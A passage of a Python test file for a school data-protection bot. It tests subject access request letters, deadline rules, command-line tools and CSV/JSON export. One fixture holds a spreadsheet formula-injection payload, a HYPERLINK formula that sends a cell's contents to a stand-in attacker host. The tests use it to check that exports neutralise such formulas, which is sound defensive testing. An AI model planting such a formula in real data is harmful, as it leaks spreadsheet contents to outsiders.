    assert ("Instead of Wednesday 30 December 2026, we will now respond by Tuesday 2 March "
            "2027.") in draft
    act(school, "dee", "extend", "Six years of records across three teachers", "today")
    body = letter(school, "extension")
    _letterhead(body, "Monday 7 December 2026")
    assert ("We are writing about your subject access request, received on Sunday 22 November "
            "2026.\n\nWe need more time to respond, because: Six years of records across three "
            "teachers\n\n") in body
    assert ("Instead of Wednesday 30 December 2026, we will now respond by Tuesday 2 March "
            "2027.") in body
    assert "complain to the Information Commissioner's Office" in body

    school.now = at(2027, 2, 1)
    act(school, "dee", "close", "part", "Other pupils' names are redacted", "today", "email")
    body = letter(school, "response")
    _letterhead(body, "Monday 1 February 2027")
    assert ("Enclosed is the information we hold about Tom Parent. Some information has been "
            "withheld or redacted: Other pupils' names are redacted.") in body
    assert "privacy notice" in body
    assert ICO_LINE in body
    body = letter(school, "refusal")
    _letterhead(body, "Monday 1 February 2027")
    assert "for these reasons: Other pupils' names are redacted" in body
    assert ICO_LINE + ", and the right to seek to enforce your rights through the courts" in body

    drafted = [a for _, a in trail(school) if a == "sar.letter_drafted"]
    assert len(drafted) == 10  # every draft is a read of personal data: audited


def test_refusal_letter_for_a_refused_request(school: School_) -> None:
    log(school)
    act(school, "dee", "close", "refused", "Manifestly excessive: it repeats SAR-2026-0000",
        "today", "email")
    body = letter(school, "refusal")
    assert ("We are not able to comply with your request, for these reasons: Manifestly "
            "excessive: it repeats SAR-2026-0000") in body
    assert ICO_LINE in body
    assert "By email: jane@example.org" in body  # no postal address was given
    body = letter(school, "response")
    assert "Enclosed" not in body and "for these reasons: Manifestly excessive" in body


def test_solicitor_is_asked_for_authority_not_for_their_own_id(school: School_) -> None:
    log(school, "sam", *intake(requester="Alex Law LLP", relationship="solicitor",
                               subject="Chris Former", authority="yes"))
    body = letter(school, "id_request")
    assert "Dear Alex Law LLP," in body
    assert ("As you are asking on behalf of Chris Former, we need their written authority for "
            "you to act for them") in body
    assert "passport" not in body
    assert ("we need the written authority of the person the information is about"
            in letter(school, "acknowledgement"))


def test_educational_record_letters(school: School_) -> None:
    set_calendar(school)
    log(school, "sam", *EDU_RECORD)
    body = letter(school, "acknowledgement")
    assert ("Thank you for your educational record request, which we received on Sunday 22 "
            "November 2026, about Tom Parent.") in body
    assert ("We will make the educational record available within 15 school days, that is by "
            "Monday 14 December 2026.") in body
    assert "calendar month" not in body
    act(school, "dee", "close", "full", "today", "collected")
    body = letter(school, "response")
    assert "Enclosed is the educational record of Tom Parent." in body
    # The ICO does not regulate the 2005 regulations' right; it does regulate subject access.
    assert "You have the right to complain to the Information Commissioner's Office" not in body
    assert "the school's complaints procedure" in body
    assert "privacy notice" not in body


def test_only_the_dpo_team_drafts_letters(school: School_) -> None:
    log(school)
    assert "Only the DPO or a deputy can draft letters." in school.says("sam", f"letter {REF}")
    assert ("Only the DPO or a deputy can draft letters." in
            school.says("hal", f"letter {REF} acknowledgement"))
    assert "Dear Jane Parent," in letter(school, "acknowledgement", who="vic")
    assert ("Which letter? Type “letter SAR-2026-0001 NAME” with one of: acknowledgement, "
            "id request, clarification, extension, response, refusal.") in school.says(
                "dee", f"letter {REF} thankyou")
    # The name is typed as the list shows it, with a space.
    assert "Dear Jane Parent," in school.says("dee", f"letter {REF} id request")


# ---------------------------------------------------------------------------------------------
# The export: every date, the paper form's fields, safe in a spreadsheet, audited
# ---------------------------------------------------------------------------------------------

DATE_COLUMNS = ("received_on", "id_requested_on", "id_received_on", "authority_requested_on",
                "authority_received_on", "clarification", "extension_notice_on", "due_on",
                "closed_on")
# The school's paper SAR form (DOMAIN.md 7): name, relationship, address, phone, email, what is
# asked for, and for office use: date received, identity checked, date completed.
PAPER_FORM = ("requester", "relationship", "address", "phone", "email", "details", "received_on",
              "identity_checked", "closed_on")
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'


def _fill(school: School_) -> None:
    """Two requests through the chat: the acceptance story's, closed; an open one, hostile."""
    log(school, "sam", *intake(id_needed="yes", phone="01632 960000",
                               address="1 High Street, Hilltown HT1 2AB"))
    school.now = at(2026, 11, 26)
    act(school, "dee", "record id", "id", "today")
    school.now = at(2026, 12, 1)
    act(school, "dee", "pause", "today", "skip")
    school.now = at(2026, 12, 4)
    act(school, "dee", "resume", "today")
    school.now = at(2026, 12, 7)
    act(school, "dee", "extend", "Six years of records", "today")
    school.now = at(2027, 2, 1)
    act(school, "dee", "close", "full", "today", "email")
    log(school, "kim", *intake(requester=HOSTILE, about_self="yes", subject=None,
                               received="today 9:00", details="+1 all my data",
                               email="x@evil.example"))


def _check_rows(rows: list[dict[str, object]]) -> None:
    first, second = rows
    assert {k: first[k] for k in DATE_COLUMNS} == {
        "received_on": "2026-11-22", "id_requested_on": "2026-11-23",
        "id_received_on": "2026-11-26", "authority_requested_on": None,
        "authority_received_on": None, "clarification": "2026-12-01 to 2026-12-04",
        "extension_notice_on": "2026-12-07", "due_on": "2027-03-02", "closed_on": "2027-02-01"}
    assert {k: first[k] for k in PAPER_FORM} == {
        "requester": "Jane Parent", "relationship": "parent",
        "address": "1 High Street, Hilltown HT1 2AB", "phone": "01632 960000",
        "email": "jane@example.org",
        "details": "All behaviour records for Tom held by the class teacher",
        "received_on": "2026-11-22", "identity_checked": "2026-11-26",
        "closed_on": "2027-02-01"}
    assert (first["reference"], first["data_subject"], first["extended"], first["on_time"],
            first["owner"], first["logged_by"]) == (REF, "Tom Parent", True, True, None,
                                                    "Sam Teacher")
    assert first["received_at"] == "2026-11-22T14:00:00+00:00"
    assert (second["reference"], second["state"], second["identity_checked"],
            second["due_on"], second["closed_on"]) == (
        "SAR-2027-0001", "open", "not needed", "2027-03-01", None)


def test_export_rows_and_csv(school: School_) -> None:
    _fill(school)
    with session_scope(school.engine) as session:
        rows = export_rows(session, session.get(School, school.school_id), actor="Dee Dpo")
    _check_rows(rows)
    assert rows[1]["requester"] == HOSTILE  # the data itself is kept as typed
    parsed = list(csv.DictReader(io.StringIO(to_csv(rows))))
    assert parsed[1]["requester"] == "'" + HOSTILE  # but a spreadsheet won't run it
    assert parsed[1]["details"] == "'+1 all my data"
    assert parsed[0]["clarification"] == "2026-12-01 to 2026-12-04"
    assert parsed[0]["due_on"] == "2027-03-02" and parsed[1]["closed_on"] == ""
    with Session(school.engine) as session:
        event = session.exec(
            select(AuditEvent).where(AuditEvent.action == "sar.exported")).one()
        assert (event.actor_name, event.detail) == ("Dee Dpo", {"count": 2})
    assert to_csv([]) == "reference\r\n"


@pytest.fixture
def cli_school(cli_env: dict[str, str]) -> School_:
    engine = make_engine(cli_env["DPO_BOT_DATABASE_URL"])
    upgrade(engine)
    return make_school(engine)


def test_cli_export_sars_csv_and_json(cli_school: School_, cli_env: dict[str, str]) -> None:
    _fill(cli_school)
    done = run_cli("export", "sars", "--format", "csv", env=cli_env)
    assert done.returncode == 0, done.stderr
    parsed = list(csv.DictReader(io.StringIO(done.stdout)))
    assert [r["reference"] for r in parsed] == [REF, "SAR-2027-0001"]  # the first of 2027
    assert parsed[1]["requester"] == "'" + HOSTILE
    assert {k: parsed[0][k] for k in ("received_on", "id_received_on", "due_on", "closed_on",
                                      "extension_notice_on", "identity_checked")} == {
        "received_on": "2026-11-22", "id_received_on": "2026-11-26", "due_on": "2027-03-02",
        "closed_on": "2027-02-01", "extension_notice_on": "2026-12-07",
        "identity_checked": "2026-11-26"}

    done = run_cli("export", "sars", "--format", "json", env=cli_env)
    assert done.returncode == 0, done.stderr
    _check_rows(json.loads(done.stdout))

    done = run_cli("export", "sars", "--format", "xlsx", env=cli_env)
    assert (done.returncode, done.stdout) == (2, "")
    assert "Invalid value for '--format'" in done.stderr
    assert "'xlsx' is not one of 'csv', 'json'." in done.stderr

    with Session(cli_school.engine) as session:
        events = list(session.exec(
            select(AuditEvent).where(AuditEvent.action == "sar.exported")
            .order_by(col(AuditEvent.id))))
    # Audited as the operating-system user who ran the export, not as the DPO.
    by = f"{cli_env.get('LOGNAME') or getpass.getuser()} (command line)"
    assert [(e.actor_name, e.adapter, e.detail) for e in events] == [
        (by, "cli", {"count": 2}), (by, "cli", {"count": 2})]


# ---------------------------------------------------------------------------------------------
# The command line (SQLite only: it is the same code on either database)
# ---------------------------------------------------------------------------------------------


def test_cli_deadline_sar(cli_env: dict[str, str]) -> None:
    done = run_cli("deadline", "sar", "2024-11-25", "--json", env=cli_env)
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert (result["due"], result["rule"], result["day_one"], result["unrolled"]) == (
        "2024-12-27", "one calendar month", "2024-11-25", "2024-12-25")
    assert result["explanation"][-1] == (
        "Wednesday 25 December 2024 is Christmas Day and Thursday 26 December 2024 is Boxing "
        "Day, so the deadline moves to the next working day: Friday 27 December 2024.")

    # Two pauses: 3 days (10-12 September) and 1 day (20 September): 3 October + 4 days.
    done = run_cli("deadline", "sar", "2025-09-03", "--paused", "2025-09-10", "2025-09-12",
                "--paused", "2025-09-20", "2025-09-20", "--json", env=cli_env)
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert (result["due"], result["paused_days"]) == ("2025-10-07", 4)
    assert "In all, 4 paused days are added." in result["explanation"]

    done = run_cli("deadline", "sar", "2025-01-31", "--extended", "--json", env=cli_env)
    result = json.loads(done.stdout)
    assert (result["due"], result["rule"], result["extension_notice_due"]) == (
        "2025-04-30", "three months (extended)", "2025-02-28")

    done = run_cli("deadline", "sar", "2025-09-03", "--clock-start", "2025-09-10", env=cli_env)
    assert done.returncode == 0, done.stderr
    assert "Due: Friday 10 October 2025 (one calendar month)" in done.stdout


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("31/13/2024",), "RECEIVED: "),
        (("2025-09-03", "--paused", "2025-09-10"), "--paused takes two dates"),
        (("2025-09-03", "--paused", "2025-09-12", "2025-09-10"),
         "The clarification cannot have arrived on Wednesday 10 September 2025, before it was "
         "asked for on Friday 12 September 2025."),
        (("2025-09-03", "--region", "FR"), "'FR' is not one of 'eng', 'wls', 'sct', 'nir'."),
    ],
    ids=["no-such-date", "half-pause", "pause-backwards", "region"],
)
def test_cli_deadline_sar_refuses_bad_input(
    cli_env: dict[str, str], args: tuple[str, ...], message: str
) -> None:
    done = run_cli("deadline", "sar", *args, env=cli_env)
    assert (done.returncode, done.stdout) == (2, "")
    assert message in done.stderr
    assert "Traceback" not in done.stderr


def test_cli_edu_record_needs_a_calendar(cli_school: School_, cli_env: dict[str, str],
                                         tmp_path: Path) -> None:
    done = run_cli("deadline", "edu-record", "2026-11-22", env=cli_env)
    assert done.returncode == 2
    assert ("Hillside Primary has no term calendar: import one with “dpo-bot calendar import "
            "FILE”") in done.stderr
    terms = tmp_path / "terms.csv"
    terms.write_text(TERM_CSV, encoding="utf-8")
    done = run_cli("calendar", "import", str(terms), env=cli_env)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == (
        "Imported 3 terms (2 September 2026 to 12 February 2027) and 1 closure days for "
        "Hillside Primary.")
    done = run_cli("deadline", "edu-record", "2026-11-22", "--json", env=cli_env)
    assert done.returncode == 0, done.stderr
    assert (json.loads(done.stdout)["due"], json.loads(done.stdout)["rule"]) == (
        "2026-12-14", "15 school days")
    # And the chat uses the imported calendar too.
    log(cli_school, "sam", *EDU_RECORD)
    assert case(cli_school).due_on == date(2026, 12, 14)

    bad = tmp_path / "bad.csv"
    bad.write_text("kind,start,end,name\nterm,2026-09-02,2026-08-01,Autumn\n", encoding="utf-8")
    done = run_cli("calendar", "import", str(bad), env=cli_env)
    assert done.returncode == 2 and "was not imported" in done.stderr and "row 2" in done.stderr


def test_cli_setup_without_prompts_then_people_list(cli_env: dict[str, str],
                                                    tmp_path: Path) -> None:
    terms = tmp_path / "terms.csv"
    terms.write_text(TERM_CSV, encoding="utf-8")
    done = run_cli("setup", "--name", "Hillside Primary", "--region", "eng",
                "--timezone", "Europe/London", "--maintained", "--hours", "08:30-17:00",
                "--dpo", "Dee Dpo", "--dpo-email", "dee@hillside.example",
                "--deputies", "Vic Deputy, Val Second", "--head", "Hal Head",
                "--sar-years", "2", "--calendar", str(terms), "--consent-months", "24",
                env=cli_env)
    assert done.returncode == 0, done.stdout + done.stderr
    assert done.stdout.endswith(
        'Hillside Primary is set up. Try it: dpo-bot chat --user "Dee Dpo" --role dpo\n')
    assert "  Photo consent: a yes lasts 24 months;" in done.stdout
    assert "  Term dates: 3 terms, " in done.stdout
    assert "[" not in done.stdout  # no prompt such as "School name [Our School]:"

    done = run_cli("people", "list", env=cli_env)
    assert done.returncode == 0, done.stderr
    rows = [line.split("│")[1:4] for line in done.stdout.splitlines() if line.startswith("│")]
    assert [[cell.strip() for cell in row] for row in rows] == [
        ["Dee Dpo", "dpo", "dee@hillside.example"], ["Hal Head", "head", ""],
        ["Vic Deputy", "deputy", ""], ["Val Second", "deputy", ""]]

    engine = make_engine(cli_env["DPO_BOT_DATABASE_URL"])
    with Session(engine) as session:
        found = session.exec(select(School)).one()
        assert (found.name, found.region, found.maintained, found.retention["sar_closed_years"],
                found.configured) == ("Hillside Primary", "ENG", True, 2, True)
        assert TermCalendar.from_csv(found.term_calendar_csv) == TermCalendar.from_csv(TERM_CSV)
        assert consent_validity(session, found) == 24
    engine.dispose()

    done = run_cli("setup", "--name", "Hillside Primary", "--region", "XX", env=cli_env)
    assert done.returncode == 2 and "Unknown region 'XX': use one of ENG, WLS, SCT, NIR" in \
        done.stderr


def test_cli_db_upgrade_twice(cli_env: dict[str, str]) -> None:
    for _ in range(2):
        done = run_cli("db", "upgrade", env=cli_env)
        assert done.returncode == 0, done.stderr
        assert done.stdout.startswith("Database is up to date: sqlite:///")


def test_a_request_made_in_person_reads_in_person(school: School_) -> None:
    answers = list(PARENT_SAR)
    answers[9] = "in person"
    school.says("sam", *answers, "yes")
    card = school.says("dee", "SAR-2026-0001")
    assert "Received: Sunday 22 November 2026 at 14:00 in person" in card
    assert "by in person" not in card


def test_a_cases_pauses_are_read_once_until_the_session_writes(school: School_) -> None:
    """A card reads the pauses three times (deadline, extension, rows): one query, and never
    a stale answer after a pause is added or answered."""
    from datetime import date

    from sqlalchemy import event

    from tests.test_reminders import add_cases, london
    from workflows.sar import service as sar_service
    from workflows.sar.models import ClarificationPause, RightsRequest

    (reference,) = add_cases(school, 1, received=london(2026, 11, 2, 10))
    reads: list[str] = []

    def counted(conn, cursor, statement, *_: object) -> None:
        if "FROM sar_pause" in statement:
            reads.append(statement)

    event.listen(school.engine, "before_cursor_execute", counted)
    try:
        with session_scope(school.engine) as session:
            case = session.exec(select(RightsRequest).where(
                RightsRequest.reference == reference)).one()
            assert sar_service.pauses(session, case) == []
            assert sar_service.pauses(session, case) == [] and len(reads) == 1
            session.add(ClarificationPause(request_id=case.id, asked_on=date(2026, 11, 3)))
            (pause,) = sar_service.pauses(session, case)  # not yet flushed: read for
            assert pause.answered_on is None and len(reads) == 2
            pause.answered_on = date(2026, 11, 5)
            assert sar_service.pauses(session, case)[0].answered_on == date(2026, 11, 5)
            savepoint = session.begin_nested()
            session.add(ClarificationPause(request_id=case.id, asked_on=date(2026, 11, 9)))
            assert len(sar_service.pauses(session, case)) == 2
            savepoint.rollback()  # the second pause was never asked
            assert len(sar_service.pauses(session, case)) == 1
        with session_scope(school.engine) as session:  # another transaction reads afresh
            case = session.exec(select(RightsRequest).where(
                RightsRequest.reference == reference)).one()
            before = len(reads)
            assert [p.answered_on for p in sar_service.pauses(session, case)] == [
                date(2026, 11, 5)]
            assert len(reads) == before + 1
    finally:
        event.remove(school.engine, "before_cursor_execute", counted)
